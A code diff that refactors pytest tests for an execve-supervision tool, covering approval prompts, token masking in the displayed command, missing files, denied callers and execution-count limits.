     _, found = asks_what_is_loaded(bash, ())
     assert (found.key[:2], found.note) == (("exec", "loads"), "")
-
-
-def test_variables_that_are_not_known_are_asked_about_each_time(bash: Process) -> None:
     _, found = asks_what_is_loaded(bash, None)
     assert found.key == ()
     assert found.note == "its variables are not known, and may load any code"
@@ -856,53 +789,44 @@ def test_the_question_has_the_words_that_a_script_goes_on_with(shell: Shell) -> 
     assert found.runs == "/usr/bin/env '-S ls -a --token abc' ./git all"
     assert found.masked_runs == "/usr/bin/env '-S ls -a --token ***' ./git all"
     assert found.files == ("/project/git", "/usr/bin/env", "/usr/bin/ls")
-
-
-def test_what_its_first_line_says_not_plainly_is_not_among_the_files(shell: Shell) -> None:
+    shell = Shell(shell.process)
     script = Program("/project/git", "git", ("./git", "all"))
     env = Program("/usr/bin/env", "env", ("/usr/bin/env", "-S PATH=. ls", "./git", "all"))
     wrapped = Program("/usr/bin/ls", "ls", ("ls", "./git", "all"), missing=True)
     by_env = {"scripts": ("./git",), "programs": (script, env, wrapped)}
     found = next_question(shell.asks_for(script, env, **by_env), NO, CONTENT)
     assert (found.files, found.note) == (("/project/git", "/usr/bin/env"), "")
-
-
-def test_words_for_a_scripts_interpreter_are_shown(shell: Shell) -> None:
+    shell = Shell(shell.process)
     script = Program("/project/git", "git", ("./git", "all"))
     plain = Program("/usr/bin/perl", "perl", ("/usr/bin/perl", "-x", "./git", "all"))
     found = next_question(shell.asks_for(script, plain, scripts=("./git",)), NO, CONTENT)
     assert found.runs == "/usr/bin/perl -x ./git all"
 
 
-def test_what_changed_and_was_approved_anew_runs(shell: Shell) -> None:
-    again = asked(shell, YES).yields(ReadAgain(), reply=facts(shell.process, PUSH))
-    again.reads(("other",))
-    new = next_question(again, YES, ("other",))
-    assert new.key[-1] == "other"
-    again.yields(ReadAgain(), reply=facts(shell.process, PUSH))
-    again.reads(("other",)).yields(Hold(), reply=Held.YES)
-    again.records("exec_allowed", reason="approved by the terminal")
-
-
-def test_a_file_that_is_gone_after_the_answer_fails_as_natively(shell: Shell) -> None:
+def test_a_caller_or_file_that_is_gone_after_the_answer_fails(shell: Shell) -> None:
     asked(shell, YES).yields(ReadAgain(), reply=WouldFail(errno.ENOENT)).records(
         "exec_failed", path="/usr/bin/git", error="ENOENT", rule_name="ask-push"
-    ).yields(Fail(errno.ENOENT)).ends()
-
-
-def test_a_caller_that_may_not_be_looked_into_any_more_is_denied(shell: Shell) -> None:
+    ).fails(errno.ENOENT)
+    shell = Shell(shell.process)
     unseen = not_dumpable(shell.process, "execve")
-    asked(shell, YES).yields(ReadAgain(), reply=unseen).records("exec_denied").yields(
-        told("execve by bash", "builtin:unreadable", UNREADABLE), Fail(errno.EACCES)
-    ).ends()
+    asked(shell, YES).yields(ReadAgain(), reply=unseen).is_denied(
+        "execve by bash", "builtin:unreadable", UNREADABLE
+    )
 
 
-def test_the_question_names_all_that_would_run(shell: Shell) -> None:
+def test_the_question_names_all_that_would_run_and_no_file_that_is_not_there(shell: Shell) -> None:
     script = Program(path="/project/git", name="git", argv=("./git", "a b", "c'd"))
     transcript = shell.asks_for(script, program("bash", "./git"), program("bash"))
     found = next_question(transcript, YES, CONTENT)
     assert found.what == "./git 'a b' 'c'\\''d'"
     assert found.files == ("/project/git", "/usr/bin/bash")
+    shell = Shell(shell.process)
+    env = Program("/usr/bin/env", "git", ("env", "nothing"))
+    nothing = Program("/usr/bin/nothing", "nothing", ("nothing",), missing=True)
+    transcript = shell.asks_for(env, nothing)
+    found = next_question(transcript, NO, CONTENT)
+    assert found.files == ("/usr/bin/env",)
+    assert found.note == "/usr/bin/nothing is not there"
 
 
 @pytest.mark.parametrize(
@@ -925,7 +849,7 @@ def test_a_path_that_tells_too_little_is_asked_about_each_time(
     assert (found.note, found.key) == (note, ())
     now = facts(shell.process, PUSH._replace(path=path), cwd=where.folder)
     transcript.yields(ReadAgain(), reply=now).reads(CONTENT, where=where)
-    transcript.yields(Hold(), reply=Held.YES).records("exec_allowed", rule_name="ask-push")
+    transcript.holds().records("exec_allowed", rule_name="ask-push")
 
 
 @pytest.mark.parametrize("words", [(), ("",)])
@@ -933,15 +857,6 @@ def test_a_question_without_words_says_so(shell: Shell, words: tuple[str, ...]) 
     found = next_question(shell.asks_for(PUSH._replace(argv=words)), NO, CONTENT)
     assert (found.what, found.files) == ("''", ("/usr/bin/git",))
     assert found.note == "it is given no words, not even a name"
-
-
-def test_the_question_names_no_file_that_is_not_there(shell: Shell) -> None:
-    env = Program("/usr/bin/env", "git", ("env", "nothing"))
-    nothing = Program("/usr/bin/nothing", "nothing", ("nothing",), missing=True)
-    transcript = shell.asks_for(env, nothing)
-    found = next_question(transcript, NO, CONTENT)
-    assert found.files == ("/usr/bin/env",)
-    assert found.note == "/usr/bin/nothing is not there"
 
 
 def test_more_words_than_are_read_are_approved_once(shell: Shell) -> None:
@@ -970,9 +885,9 @@ def test_an_exec_over_a_limit_is_denied(
 ) -> None:
     bash.depth = different.pop("process_depth", 1)
     rule = "limits." + why.partition(":")[0]
-    limited(bash, limits).asks_for("ls", **different).records(
-        "exec_denied", rule_name=rule, reason=why, decision="deny"
-    ).yields(told("ls", rule, why), Fail(errno.EACCES)).ends()
+    limited(bash, limits).asks_for("ls", **different).is_denied(
+        "ls", rule, why, reason=why, decision="deny"
+    )
 
 
 @pytest.mark.parametrize(
@@ -990,7 +905,7 @@ def test_an_exec_at_a_limit_goes_on(bash: Process, limits: str) -> None:
     limited(bash, limits).asks_for("ls", crowd=Crowd(4, 4)).yields(Hold())
 
 
-def test_one_exec_too_many_is_denied_and_ends_the_run(bash: Process) -> None:
+def test_execs_are_counted_where_they_go_on_and_one_too_many_ends_the_run(bash: Process) -> None:
     shell = limited(bash, "{max_execs: 2}")
     shell.runs("ls")
     shell.runs("ls")
@@ -1000,25 +915,15 @@ def test_one_exec_too_many_is_denied_and_ends_the_run(bash: Process) -> None:
         Fail(errno.EACCES),
         EndRun(LimitReached("max_execs", 2, why, 2)),
     ).ends()
-
-
-def test_a_denied_exec_uses_nothing_up_and_ends_no_run(bash: Process) -> None:
     shell = limited(bash, "{max_execs: 1}")
-    shell.asks_for("bad").records("exec_denied", rule_name="no-bad").yields(
-        told("bad", "no-bad"), Fail(errno.EACCES)
-    ).ends()
+    shell.asks_for("bad").is_denied("bad", "no-bad")
     shell.runs("ls")
-    shell.asks_for("bad").records("exec_denied", rule_name="no-bad").yields(
-        Fail(errno.EACCES)
-    ).ends()
-
-
-def test_what_an_answer_waited_for_may_be_one_too_many_by_then(bash: Process) -> None:
+    shell.asks_for("bad").records("exec_denied", rule_name="no-bad").fails(errno.EACCES)
     shell = limited(bash, "{max_execs: 1}")
     waiting = asked(shell, YES)
     shell.runs("ls")
     why = "max_execs: 1 programs have been started"
-    unchanged(shell, waiting).yields(Hold(), reply=Held.YES)
+    unchanged(shell, waiting).holds()
     waiting.records("exec_denied", rule_name="limits.max_execs").yields(
         told("git push '--token=***'", "limits.max_execs", why),
         Fail(errno.EACCES),
@@ -1031,9 +936,9 @@ def test_execs_count_that_are_watched_or_replaced(bash: Process, held: Held) -> 
     shell = limited(bash, "{max_execs: 2}")
     shell.runs("ls")
     if held is Held.BY_ITS_TRACER:
-        shell.asks_for("ls").yields(Hold(), reply=held).records("exec_allowed").next()
+        shell.asks_for("ls").holds(held).records("exec_allowed").next()
     else:
-        transcript = redirected(shell).yields(Hold(), reply=held).records("exec_redirected")
+        transcript = redirected(shell).holds(held).records("exec_redirected")
         transcript.next()
         transcript.yields(Replace(), reply=Restarted())
         transcript.next()
